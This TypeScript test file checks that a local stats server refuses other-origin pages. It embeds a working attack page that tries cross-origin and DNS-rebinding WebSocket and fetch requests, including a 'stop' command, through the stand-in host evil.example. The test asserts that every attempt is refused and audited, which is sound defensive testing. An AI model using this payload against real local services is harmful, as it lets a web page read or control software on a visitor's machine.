import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test, type TestContext } from 'node:test';
import { browserProblem, openPage } from '../support/browser.js';
import { startRig } from '../support/stats-rig.js';

const skip = browserProblem() ?? false;

/** What a page could do, by what it tried. */
type Report = Readonly<Record<string, string>>;

/** Tries everything that a browser lets a page do with a port of its visitor's machine. */
const ATTACK = `<!doctype html><title>cats</title><script type="module">
const port = new URLSearchParams(location.search).get('port');
const socket = (host) => new Promise((resolve) => {
  const socket = new WebSocket('ws://' + host + ':' + port + '/live');
  socket.onopen = () => {
    socket.send(JSON.stringify({ type: 'command', id: 1, command: { name: 'stop', how: 'now' } }));
  };
  socket.onmessage = (event) => resolve('read ' + event.data.slice(0, 40));
  socket.onclose = () => resolve('refused');
});
const read = async (host, options) => {
  try {
    const answer = await fetch('http://' + host + ':' + port + '/stats', options);
    const text = await answer.text();
    return text.includes('workers') ? 'read' : answer.type + ' ' + text.length;
  } catch (error) {
    return 'refused';
  }
};
const report = {
  socket: await socket('127.0.0.1'),
  'rebound socket': await socket('evil.example'),
  fetch: await read('127.0.0.1', {}),
  'rebound fetch': await read('evil.example', {}),
  'opaque fetch': await read('127.0.0.1', { mode: 'no-cors' }),
  post: await read('127.0.0.1', { mode: 'no-cors', method: 'POST', body: 'stop' }),
};
await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
</script>`;

test(
  'a page of another origin, in a real browser, reads nothing and commands nothing',
  { skip },
  async (t) => {
    const rig = await startRig(t);
    const report = await attack(t, rig.port);
    assert.deepEqual(report, {
      socket: 'refused',
      'rebound socket': 'refused',
      fetch: 'refused',
      'rebound fetch': 'refused',
      'opaque fetch': 'opaque 0',
      post: 'opaque 0',
    });
    assert.deepEqual(rig.executed, []);
    const log = rig.log.join('\n');
    assert.match(
      log,
      /^audit: HTTP GET by .*: refused \(403\): A page from another origin may not open/m,
    );
    assert.match(
      log,
      /^audit: HTTP GET by .*: refused \(403\): A page from another origin may read/m,
    );
    assert.match(log, /^audit: HTTP GET by .*: refused \(421\): This Host is not one of ours/m);
  },
);

/** Serves the page as evil.example, has it opened, and waits for what it tells its own server. */
async function attack(t: TestContext, statsPort: number): Promise<Report> {
  let tell: (report: Report) => void = () => undefined;
  const told = new Promise<Report>((resolve) => (tell = resolve));
  const server = createServer((request, response) => {
    if (request.url !== '/report') {
      response.setHeader('Content-Type', 'text/html').end(ATTACK);
      return;
    }
    void bodyOf(request).then((body) => {
      response.end();
      tell(JSON.parse(body) as Report);
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  const { port } = server.address() as AddressInfo;
  openPage(t, `http://evil.example:${port}/?port=${statsPort}`, ['evil.example']);
  return told;
}

async function bodyOf(request: IncomingMessage): Promise<string> {
  let body = '';
  for await (const chunk of request.setEncoding('utf8')) body += String(chunk);
  return body;
}
